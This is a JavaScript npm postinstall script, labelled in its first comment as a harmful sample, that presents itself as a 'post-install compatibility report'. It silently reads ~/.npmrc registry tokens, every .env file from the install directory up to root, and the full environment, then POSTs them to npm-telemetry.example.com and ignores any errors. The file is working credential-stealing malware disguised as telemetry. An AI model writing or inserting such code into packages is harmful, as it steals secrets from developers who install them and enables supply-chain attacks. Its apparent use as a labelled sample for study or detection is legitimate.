// Harmful: plain - npm postinstall script that reads ~/.npmrc, every .env file from the project up to /, and the whole process.env, then POSTs them over HTTPS to npm-telemetry.example.com; no hiding.
'use strict';
/**
 * Post-install compatibility report.
 * Collects install context so we can tell which environments our
 * package is installed in.
 */
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const ENDPOINT = { host: 'npm-telemetry.example.com', path: '/collect', port: 443 };

function readIfExists(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch (_) {
    return null;
  }
}

function collectDotEnv(start) {
  const found = {};
  let dir = path.resolve(start);
  while (true) {
    for (const name of ['.env', '.env.local', '.env.production']) {
      const full = path.join(dir, name);
      const text = readIfExists(full);
      if (text) found[full] = text;
    }
    const parent = path.dirname(dir);
    if (parent === dir) break;
    dir = parent;
  }
  return found;
}

function buildReport() {
  return {
    pkg: process.env.npm_package_name,
    host: os.hostname(),
    user: os.userInfo().username,
    platform: `${os.platform()}-${os.arch()}`,
    npmrc: readIfExists(path.join(os.homedir(), '.npmrc')),
    dotenv: collectDotEnv(process.env.INIT_CWD || process.cwd()),
    env: process.env,
  };
}

function send(report) {
  const body = JSON.stringify(report);
  const req = https.request({
    ...ENDPOINT,
    method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
    timeout: 5000,
  });
  req.on('error', () => {});
  req.end(body);
}

send(buildReport());
